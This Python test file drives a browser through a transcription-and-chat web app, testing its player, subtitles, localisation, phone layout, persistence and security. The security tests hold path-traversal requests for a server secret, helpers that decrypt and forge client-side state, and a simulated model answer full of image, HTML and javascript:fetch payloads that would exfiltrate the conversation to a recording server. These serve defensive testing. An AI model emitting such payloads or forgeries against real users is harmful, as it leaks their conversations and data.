"""Listening on the page, in a real browser: the player, moments you can click (transcript times,
sentences, citations in answers), video with subtitles, a 3-hour recording, the visitor's
language, a phone's screen, and a reload or a server restart that loses nothing."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import re
import subprocess
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest
import speech
from conftest import TEST_KEY
from support import free_port, process, send, start_app

PLAYER = "document.querySelector('#player audio, #player video')"


@pytest.fixture(scope="module")
def player_app(fake_server, tmp_path_factory):
    tmp = tmp_path_factory.mktemp("player")
    env = {"OPENAI_API_KEY": TEST_KEY, "OPENAI_BASE_URL": fake_server.base_url}
    port = free_port()
    proc, url = start_app(env, tmp, port)
    app = {"url": url, "tmp": tmp, "env": env, "port": port, "proc": proc}
    yield app
    app["proc"].terminate()
    app["proc"].wait(timeout=20)


def cache_key(player_app, path: Path) -> str:
    """The id the app's cache knows a recording's transcript by: anyone can compute it offline
    from the file and the settings."""
    from core.config import Settings
    from core.transcribe.pipeline import lookup

    settings = Settings(api_key=TEST_KEY, base_url=player_app["env"]["OPENAI_BASE_URL"],
                        cache_dir=player_app["tmp"] / "cache")
    return lookup(path, settings).meta.id


def assert_unguessable(url: str, player_app, path: Path) -> None:
    """A URL of the player's files: a keyed name under media/, no path of the server's disk, no
    sha256 of the file, no transcript id."""
    from core.cache import file_digest

    assert re.fullmatch(r"media/[0-9a-f]{32}(\.\w+){1,2}", url), url
    assert file_digest(path) not in url and cache_key(player_app, path)[:32] not in url


def open_page(chromium, url, locale="en-US", **context):
    ctx = chromium.new_context(locale=locale, **{"viewport": {"width": 1300, "height": 950}, **context})
    page = ctx.new_page()
    page.set_default_timeout(60_000)
    page.goto(url, wait_until="load")
    page.locator("#status .status").wait_for()  # the page has loaded and said what to do
    return page


def wait_ready(page) -> None:
    """The transcript is on the page and the player has the recording's length."""
    page.wait_for_function("() => document.querySelector('#status .status-done')")
    page.wait_for_function(f"() => {{ const p = {PLAYER}; return p && p.readyState >= 1 && p.duration > 1 }}")


def position(page) -> float:
    return page.evaluate(f"() => {PLAYER}.currentTime")


def wait_position(page, seconds: float) -> float:
    """The player's own position (currentTime of the page's element), once it is near `seconds`."""
    page.wait_for_function(f"t => Math.abs({PLAYER}.currentTime - t) < 1", arg=seconds, timeout=10_000)
    return position(page)


@pytest.fixture(scope="module")
def paragraphs_talk(media_dir):
    """Six sentences, each after a long pause: six paragraphs, about 35 s."""
    path = media_dir / "paragraphs talk.mp3"
    return path, speech.recording(path, speech.SENTENCES[:6], pause=2.6)


def test_click_a_time_a_sentence_or_a_citation_and_hear_it(chromium, player_app, fake_server, paragraphs_talk,
                                                           artifacts):
    path, spoken = paragraphs_talk
    page = open_page(chromium, player_app["url"])
    process(page, path)
    wait_ready(page)
    paras = page.locator("#transcript-doc p.para")
    assert paras.count() >= 4, page.locator("#transcript-doc").inner_text()
    assert "Maria" in page.locator("#transcript-doc").inner_text()
    assert page.locator("#loaded").inner_text().startswith("paragraphs talk.mp3")

    third = paras.nth(2)  # a paragraph's time
    start = float(third.get_attribute("data-start"))
    third.locator("a.ts").click()
    wait_position(page, start)
    page.wait_for_function("() => document.querySelectorAll('#transcript-doc p.para.playing').length == 1")
    assert "playing" in third.get_attribute("class"), "the paragraph being heard is marked"

    # Summary and chapters come unasked; a chapter's time plays the recording from there.
    page.wait_for_function("() => document.querySelector('#summary')?.innerText.includes('Chapters')")
    chapter = page.locator("#summary a[href^='#t=']").last
    chapter.click()
    wait_position(page, float(chapter.get_attribute("href")[3:]))

    sentence = paras.nth(4).locator(".seg").first  # a sentence
    sentence.click()
    wait_position(page, float(sentence.get_attribute("data-t")))
    page.wait_for_function("() => document.querySelectorAll('#transcript-doc p.para')[4].classList.contains('playing')")

    fake_server.chat_suffix = " Nothing was said at [59:00]."  # a moment past the end
    try:
        send(page, "Who will travel to Lisbon?")
        page.wait_for_function("() => [...document.querySelectorAll('#chatbot .message.bot')].at(-1)"
                               "?.innerText.includes('[59:00]')")
    finally:
        fake_server.chat_suffix = ""
    answer = page.locator("#chatbot .message.bot").last
    link = answer.locator("a[href^='#t=']")
    assert link.count() == 1, answer.inner_html()
    cited = float(link.get_attribute("href")[3:])
    assert abs(cited - spoken[1].start) < 1.5, (cited, spoken[1])  # where Maria's sentence starts
    page.evaluate(f"() => {PLAYER}.pause()")
    link.click()
    wait_position(page, cited)
    page.wait_for_function("() => document.querySelectorAll('#transcript-doc p.para')[1].classList.contains('playing')")
    assert len(page.context.pages) == 1, "a citation opens no tab"
    assert "[59:00]" in answer.inner_text() and "59:00" not in " ".join(
        answer.locator("a").all_inner_texts()), "a moment past the end is not a link"
    page.screenshot(path=str(artifacts / "player-citations.png"), full_page=True)
    page.context.close()


def test_video_plays_with_the_transcript_as_subtitles(chromium, player_app, media_dir, artifacts):
    wav = media_dir / "video voice.wav"
    spoken = speech.recording(wav, speech.SENTENCES[6:9], pause=1.5)
    video = media_dir / "clip.webm"
    subprocess.run([speech.ffmpeg(), "-nostdin", "-loglevel", "error", "-y", "-f", "lavfi", "-i",
                    "color=c=0x334466:s=320x180:r=10", "-i", str(wav), "-shortest", "-c:v", "libvpx", "-b:v",
                    "80k", "-c:a", "libopus", "-b:a", "32k", str(video)], check=True)
    page = open_page(chromium, player_app["url"])
    process(page, video)
    wait_ready(page)
    assert page.locator("#player video track[kind=subtitles]").count() == 1
    urls = page.evaluate(f"() => [{PLAYER}.getAttribute('src'), {PLAYER}.querySelector('track').getAttribute('src')]")
    for url in urls:
        assert_unguessable(url, player_app, video)
    page.wait_for_function(f"() => {PLAYER}.textTracks[0]?.cues?.length > 0")
    cues = page.evaluate(f"() => [...{PLAYER}.textTracks[0].cues].map(c => [c.startTime, c.endTime, c.text])")
    starts = [float(s) for s in page.locator("#transcript-doc .seg").evaluate_all(
        "els => els.map(e => e.dataset.t)")]
    assert len(cues) == len(starts) >= 3
    assert all(abs(c[0] - s) < 0.01 for c, s in zip(cues, starts)), (cues, starts)
    mountain = next(c for c in cues if "mountain" in c[2].lower())  # the third sentence's caption
    assert abs(mountain[0] - spoken[1].end) < 4, (mountain, spoken)
    page.evaluate(f"t => {{ const v = {PLAYER}; v.textTracks[0].mode = 'showing'; v.currentTime = t }}",
                  (mountain[0] + mountain[1]) / 2)
    page.wait_for_function(f"() => [...({PLAYER}.textTracks[0].activeCues || [])].some(c => "
                           "c.text.toLowerCase().includes('mountain'))")
    page.screenshot(path=str(artifacts / "player-video.png"), full_page=True)
    page.context.close()


def test_spanish_visitor_reads_status_and_errors_in_spanish(chromium, player_app, fake_server, media_dir,
                                                            artifacts):
    page = open_page(chromium, player_app["url"], locale="es-ES")
    assert "Elige una grabación" in page.locator("#status").inner_text()
    page.locator("#process").click()  # nothing chosen
    page.locator("#status .status-error").wait_for()
    error = page.locator("#status").inner_text()
    assert "Elige un archivo" in error, error
    page.screenshot(path=str(artifacts / "spanish-error.png"), full_page=True)
    # One visible place: no other component is marked as failed, and the chat is not covered.
    assert page.locator(".error, .toast-body").count() == 0, page.locator(".error, .toast-body").all_inner_texts()
    fresh = media_dir / "en espanol.mp3"  # not in the cache: the job's progress is seen
    speech.recording(fresh, speech.SENTENCES[3:5])
    fake_server.latency = lambda seconds: 2.0
    try:
        process(page, fresh)
        page.wait_for_function("() => document.querySelector('#status').innerText.includes('Enviado al servicio')")
        page.screenshot(path=str(artifacts / "spanish-progress.png"), full_page=True)
        # Progress is shown once, in the status line: nothing else is covered meanwhile.
        assert page.locator(".wrap.translucent, .wrap.default:not(.hide)").count() <= 1
        page.wait_for_function("() => document.querySelector('#status .status-done')")
    finally:
        fake_server.latency = None
    done = page.locator("#status").inner_text()
    assert "Transcritos" in done and "2 segmentos" in done, done
    page.context.close()
    log = (player_app["tmp"] / "app.log").read_text()
    assert "HTTP Request" not in log, "each request to the service is not logged"


def test_phone_screen_without_horizontal_scrolling(chromium, player_app, paragraphs_talk, artifacts):
    page = open_page(chromium, player_app["url"], viewport={"width": 390, "height": 844}, is_mobile=True,
                     has_touch=True, device_scale_factor=2)
    process(page, paragraphs_talk[0])
    wait_ready(page)
    send(page, "Who will travel to Lisbon?")
    page.locator("#chatbot .message.bot a[href^='#t=']").first.wait_for()
    page.screenshot(path=str(artifacts / "phone.png"), full_page=True)
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 390
    for selector in ("#player", "#transcript-panel", "#chatbot", "#question"):
        box = page.locator(selector).bounding_box()
        assert box and box["x"] >= 0 and box["x"] + box["width"] <= 391 and box["width"] > 300, (selector, box)
    # Stacked: the player first, then the transcript, then the chat.
    ys = [page.locator(s).bounding_box()["y"] for s in ("#player", "#transcript-panel", "#chatbot")]
    assert ys == sorted(ys), ys
    page.context.close()


def test_a_new_file_marks_the_results_as_someone_elses(chromium, player_app, paragraphs_talk, short_talk):
    page = open_page(chromium, player_app["url"])
    process(page, paragraphs_talk[0])
    wait_ready(page)
    page.get_by_text("Recording", exact=True).first.click()  # open the input panel again
    page.locator('#upload button[aria-label="Clear"], #upload button[aria-label="Remove this file"]').first.click()
    page.locator("#upload input[type=file]").set_input_files(str(short_talk[0]))
    page.wait_for_function("() => document.querySelector('#loaded').innerText.includes('not the one chosen')")
    assert "press Process" in page.locator("#status").inner_text()
    page.context.close()


def chromium_memory_mb(browser_pid_parent: int) -> float:
    """Resident memory of every chromium process under this test process (from /proc)."""
    children: dict[int, list[int]] = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                ppid = int(Path(f"/proc/{entry}/stat").read_text().rsplit(")", 1)[1].split()[1])
            except (OSError, IndexError, ValueError):
                continue
            children.setdefault(ppid, []).append(int(entry))
    total, todo = 0, list(children.get(browser_pid_parent, []))
    while todo:
        pid = todo.pop()
        todo += children.get(pid, [])
        try:
            if "chrom" in Path(f"/proc/{pid}/comm").read_text():
                rss = next(line for line in Path(f"/proc/{pid}/status").read_text().splitlines()
                           if line.startswith("VmRSS:"))
                total += int(rss.split()[1])
        except (OSError, StopIteration):
            continue
    return total / 1024


def test_a_three_hour_recording_is_ready_at_once(chromium, player_app, media_dir, artifacts):
    """The transcript is in the server's cache (a real 3-hour transcription is the benchmark's
    business); what is measured is the page: the player and a responsive page right away."""
    from core.transcribe.backends import get_backend
    from core.cache import Cache, file_digest
    from core.config import Settings
    from core.transcribe.keys import transcript_key
    from core.transcript import Segment, Transcript

    minute = media_dir / "minute.mp3"
    pcm = b"".join(speech.speak_pcm(text) + speech.silence(1.0) for text, _ in speech.SENTENCES)
    speech.write((pcm + speech.silence(60))[:60 * speech.RATE * 2], minute, "-b:a", "24k")
    long = media_dir / "three hours.mp3"
    subprocess.run([speech.ffmpeg(), "-nostdin", "-loglevel", "error", "-y", "-stream_loop", "179", "-i",
                    str(minute), "-c", "copy", str(long)], check=True)
    hours = 3 * 3600
    sentences = [s for s, _ in speech.SENTENCES]
    segments = [Segment(t, t + 4.0, f"{sentences[i % 10]} (part {i})") for i, t in enumerate(range(0, hours, 5))]
    settings = Settings(api_key=TEST_KEY, base_url=player_app["env"]["OPENAI_BASE_URL"],
                        cache_dir=player_app["tmp"] / "cache")
    key = transcript_key(file_digest(long), get_backend(settings), settings)
    Cache(settings.cache_dir).put_transcript(key, Transcript(segments, float(hours), "en", "whisper-1"))

    page = open_page(chromium, player_app["url"])
    before = chromium_memory_mb(os.getpid())
    process(page, long)
    page.wait_for_function("() => document.querySelector('#status .status-done')", timeout=120_000)
    shown = time.monotonic()
    page.wait_for_function(f"() => {{ const p = {PLAYER}; return p && p.readyState >= 1 && p.duration > 10000 }}")
    ready = time.monotonic() - shown
    tick = time.monotonic()
    assert page.evaluate("() => document.querySelectorAll('#transcript-doc .seg').length") == len(segments)
    answered = time.monotonic() - tick
    page.evaluate("t => window.talkSeek(t)", 2 * 3600 + 30)
    wait_position(page, 2 * 3600 + 30)
    page.wait_for_function("() => document.querySelector('#transcript-doc p.para.playing')")
    after = chromium_memory_mb(os.getpid())
    print(f"\n3-hour recording: player ready {ready:.2f} s after the transcript, a script answered in "
          f"{answered * 1000:.0f} ms, chromium memory {before:.0f} -> {after:.0f} MB")
    page.screenshot(path=str(artifacts / "three-hours.png"))
    assert ready < 5 and answered < 5
    assert after < 2000, f"the browser holds {after:.0f} MB"
    page.context.close()


def refused(url: str) -> int:
    with pytest.raises(urllib.error.HTTPError) as error:
        urllib.request.urlopen(url, timeout=10)
    return error.value.code


def test_only_the_media_folder_is_served(player_app):
    """The players' files are served by keyed name; nothing else of the cache folder is reachable,
    and neither is the media folder by Gradio's path route."""
    cache = player_app["tmp"] / "cache"
    assert (cache / "server-secret").is_file()
    (cache / "media").mkdir(parents=True, exist_ok=True)
    (cache / "media" / ("ab" * 16 + ".mp3")).write_bytes(b"ID3")  # a keyed name: served
    with urllib.request.urlopen(player_app["url"] + "media/" + "ab" * 16 + ".mp3", timeout=10) as served:
        assert served.read() == b"ID3"
    for path in (cache / "media" / ".." / "server-secret", cache / "server-secret", cache / "transcripts",
                 cache / "media" / ("ab" * 16 + ".mp3")):
        assert refused(player_app["url"] + "gradio_api/file=" + urllib.parse.quote(str(path))) in (403, 404), path
    for name in ("..%2Fserver-secret", "server-secret", "%2E%2E/server-secret", "ab" * 16, "AB" * 16 + ".mp3"):
        assert refused(player_app["url"] + "media/" + name) == 404, name


def test_a_reload_or_a_restart_brings_back_the_transcript_and_the_chat(chromium, player_app, short_talk):
    page = open_page(chromium, player_app["url"])
    process(page, short_talk[0])
    wait_ready(page)
    send(page, "Who will travel to Lisbon?")
    page.locator("#chatbot .message.bot a[href^='#t=']").first.wait_for()
    page.wait_for_timeout(500)  # the browser keeps its copy when the answer is complete

    def comes_back() -> None:
        page.reload(wait_until="load")
        page.wait_for_function("() => document.querySelector('#transcript-doc')?.innerText.includes('Maria')")
        page.locator("#chatbot .message.bot a[href^='#t=']").first.wait_for()
        assert "Lisbon" in page.locator("#chatbot .message.user").first.inner_text()
        wait_ready(page)
        assert page.locator("#question textarea").is_enabled()

    comes_back()
    player_app["proc"].terminate()  # a server restart, on the same address, with the same cache
    player_app["proc"].wait(timeout=20)
    player_app["proc"], _ = start_app(player_app["env"], player_app["tmp"], player_app["port"])
    comes_back()
    send(page, "Why?")  # the conversation goes on from what came back
    page.wait_for_function("() => document.querySelectorAll('#chatbot .message.bot').length == 2")
    page.context.close()


# Gradio's BrowserState in the browser: AES (crypto-js, OpenSSL's salted format) under the SHA-256
# of the `secret` that /config hands every visitor. What anyone can undo, and forge.

def _evp_key_iv(passphrase: bytes, salt: bytes) -> tuple[bytes, bytes]:
    derived, block = b"", b""
    while len(derived) < 48:
        block = hashlib.md5(block + passphrase + salt).digest()
        derived += block
    return derived[:32], derived[32:48]


def gradio_unwrap(stored: str, secret: str) -> str:
    from cryptography.hazmat.primitives import padding
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    raw = base64.b64decode(stored.split(":")[1])
    assert raw[:8] == b"Salted__"
    key, iv = _evp_key_iv(hashlib.sha256(secret.encode()).hexdigest().encode(), raw[8:16])
    decryptor = Cipher(algorithms.AES(key), modes.CBC(iv)).decryptor()
    unpadder = padding.PKCS7(128).unpadder()
    return (unpadder.update(decryptor.update(raw[16:]) + decryptor.finalize()) + unpadder.finalize()).decode()


def gradio_wrap(plain: str, secret: str) -> str:
    from cryptography.hazmat.primitives import padding
    from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes

    salt = os.urandom(8)
    key, iv = _evp_key_iv(hashlib.sha256(secret.encode()).hexdigest().encode(), salt)
    padder = padding.PKCS7(128).padder()
    encryptor = Cipher(algorithms.AES(key), modes.CBC(iv)).encryptor()
    data = encryptor.update(padder.update(plain.encode()) + padder.finalize()) + encryptor.finalize()
    return base64.b64encode(os.urandom(16)).decode() + ":" + base64.b64encode(b"Salted__" + salt + data).decode()


def test_the_key_is_in_no_response_and_the_browser_holds_only_what_the_server_sealed(chromium, player_app,
                                                                                    short_talk, artifacts):
    """Everything a visitor gets (the page, /config, /gradio_api/info, every script, every answer)
    lacks the server's key; with what /config gives, the browser's value unwraps to an opaque
    string, not the questions; the player's URL holds no path, no sha256 of the file and no
    transcript id; a value forged or edited as before brings nothing back, and no error."""
    from core.cache import file_digest
    from ui.layout import RECENT_KEY

    url, cache = player_app["url"], player_app["tmp"] / "cache"
    ctx = chromium.new_context(locale="en-US", viewport={"width": 1300, "height": 950})
    page = ctx.new_page()
    page.set_default_timeout(60_000)
    responses = []
    page.on("response", lambda r: responses.append(r))
    page.goto(url, wait_until="load")
    process(page, short_talk[0])
    wait_ready(page)
    send(page, "Who will travel to Lisbon?")
    page.locator("#chatbot .message.bot a[href^='#t=']").first.wait_for()
    page.wait_for_timeout(500)  # the browser keeps its copy when the answer is complete
    stored = page.evaluate("k => localStorage.getItem(k)", RECENT_KEY)
    src = page.evaluate(f"() => {PLAYER}.getAttribute('src')")

    key = (cache / "server-secret").read_text().strip()
    bodies = {r.url: r.body() for r in responses if r.status == 200 and "text/event-stream" not in
              (r.headers.get("content-type") or "")}
    for path in ("", "config", "gradio_api/info"):
        with urllib.request.urlopen(url + path, timeout=10) as r:
            bodies[url + path] = r.read()
    assert len(bodies) > 10 and any(".js" in u for u in bodies), list(bodies)
    config = json.loads(bodies[url + "config"])
    [state] = [c["props"] for c in config["components"] if c.get("type") == "browserstate"
               and c["props"].get("storage_key") == RECENT_KEY]  # (the other: the Library's owner id)
    internal = cache_key(player_app, short_talk[0])
    digest = file_digest(short_talk[0])
    for where, body in bodies.items():
        for secret in (key, str(cache), digest, internal):
            assert secret.encode() not in body and secret not in where, (where, secret)

    unwrapped = json.loads(gradio_unwrap(stored, state["secret"]))  # what any visitor can do
    assert isinstance(unwrapped, str) and "Lisbon" not in unwrapped
    assert b"Lisbon" not in base64.urlsafe_b64decode(unwrapped + "==") and internal not in unwrapped
    assert_unguessable(src, player_app, short_talk[0])

    forged = [{"id": internal, "media": f"{digest}.mp3", "chat": [{"role": "user", "content": "Forged"}]}]
    middle = len(unwrapped) // 2
    edited = unwrapped[:middle] + ("A" if unwrapped[middle] != "A" else "B") + unwrapped[middle + 1:]
    for value in (forged, edited):
        visitor = chromium.new_context(locale="en-US")
        visitor.add_init_script(f"localStorage.setItem({json.dumps(RECENT_KEY)}, "
                                f"{json.dumps(gradio_wrap(json.dumps(value), state['secret']))})")
        other = visitor.new_page()
        other.goto(url, wait_until="load")
        other.locator("#status .status-info").wait_for()
        assert "Choose a recording" in other.locator("#status").inner_text()
        assert not other.locator("#transcript-doc").count() and not other.locator("#status .status-error").count()
        other.screenshot(path=str(artifacts / "forged-browser-value.png"))
        visitor.close()
    ctx.close()


def hostile_answer(evil: str) -> str:
    """An answer that, rendered as the model wrote it, would make the browser fetch from `evil`
    (the ways tests/test_render.py::HOSTILE lists, here as one text), and that cites a moment and
    links a web page."""
    return f"""

Maria travels on [00:05]; the plan is [here](https://example.com/plan).

![]({evil}/inline.png?q=the+conversation) ![ref][1] ![img][ref2]
<img src="{evil}/img.png"> <IMG SRC={evil}/upper.png> <img srcset="{evil}/srcset.png 2x">
<picture><source srcset="{evil}/picture.png"><img></picture> <svg><image href="{evil}/svg.png"/></svg>
<iframe src="{evil}/iframe"></iframe> <video poster="{evil}/poster.png"></video> <audio src="{evil}/a.mp3" autoplay></audio>
<link rel="stylesheet" href="{evil}/style.css"> <style>body {{ background: url({evil}/css.png) }}</style>
<span style="background:url({evil}/span.png)">styled</span> <a href="javascript:fetch('{evil}/js')">js</a>
[md js](javascript:fetch('{evil}/mdjs')) [data](data:text/html,<img src={evil}/data.png>) [file](file:///etc/passwd)
<{evil}/autolink> mail@{evil.split('//')[1]} &#60;img src={evil}/entity.png&#62;
[![nested]({evil}/nested.png)](https://example.com/nested) $$\\includegraphics{{{evil}/katex.png}}$$

```mermaid
graph TD; A-->B; <img src="{evil}/mermaid.png">
```

[1]: {evil}/reference.png
[ref2]: <{evil}/reference2.png>

END-OF-ANSWER"""


# The whole answer is in (Gradio labels each message with its text, whatever it renders).
ANSWERED = ("() => [...document.querySelectorAll('#chatbot [data-testid=bot]')].at(-1)"
            "?.getAttribute('aria-label')?.includes('END-OF-ANSWER')")


def test_an_answer_loads_nothing_and_links_only_moments_and_pages(chromium, player_app, fake_server, paragraphs_talk,
                                                                 tmp_path, artifacts):
    """Issue 21, finding 6: the model's answer (and summary) carries images, HTML and links of every
    form pointing at a server that records requests; the browser makes none, in the chat as it
    streams and when done, in the summary, and after a reload restores the conversation. The
    citation still plays its moment; the web link opens in a new tab, without opener or referrer."""
    from mediaserver import MediaServer

    evil = MediaServer(tmp_path)
    path, spoken = paragraphs_talk
    page = open_page(chromium, player_app["url"])
    asked = []
    page.on("request", lambda r: asked.append(r.url))
    fake_server.chat_suffix = hostile_answer(evil.url(""))
    try:
        process(page, path)
        wait_ready(page)
        # The summary streams the model's text as it comes (the hostile part too), then its bullets and chapters.
        page.wait_for_function("() => document.querySelector('#summary')?.innerText.includes('Chapters')")
        send(page, "Who will travel?")
        page.wait_for_function(ANSWERED)
    finally:
        fake_server.chat_suffix = ""
    page.wait_for_timeout(1500)  # anything the page would fetch, fetched
    answer = page.locator("#chatbot .message.bot").last
    for shown in (answer, page.locator("#summary")):
        loading = shown.locator("img, picture, svg image, iframe, video, audio, link, style, [style*=url], .mermaid svg")
        assert loading.count() == 0, loading.evaluate_all("els => els.map(e => e.outerHTML.slice(0, 300))")
        hrefs = shown.locator("a[href]").evaluate_all("els => els.map(a => a.getAttribute('href'))")
        assert all(h.startswith("#t=") or h.startswith("https://example.com/") or h.startswith(evil.url("/"))
                   for h in hrefs), hrefs
    assert "![](http" in answer.inner_text() and "<img src=" in answer.inner_text(), "shown as text"

    web = answer.locator("a[href='https://example.com/plan']")
    assert web.get_attribute("target") == "_blank"
    assert {"noopener", "noreferrer"} <= set(web.get_attribute("rel").split())
    page.context.route("https://example.com/**", lambda route: route.fulfill(body="<p>plan</p>",
                                                                               content_type="text/html"))
    with page.context.expect_page() as opened:
        web.click()
    tab = opened.value
    tab.wait_for_load_state()
    assert tab.evaluate("() => window.opener") is None and tab.evaluate("() => document.referrer") == ""
    tab.close()

    cite = answer.locator("a[href^='#t=']").first
    cited = float(cite.get_attribute("href")[3:])
    page.evaluate(f"() => {PLAYER}.pause()")
    cite.click()
    wait_position(page, cited)
    page.screenshot(path=str(artifacts / "safe-answer.png"), full_page=True)

    page.reload()  # the conversation comes back from the browser's storage
    page.wait_for_function(ANSWERED)
    page.wait_for_timeout(1500)
    assert page.locator("#chatbot img, #chatbot iframe, #chatbot svg image").count() == 0
    assert evil.hits == [], evil.hits
    assert not [u for u in asked if u.startswith(evil.url(""))], asked
    evil.stop()
    page.context.close()
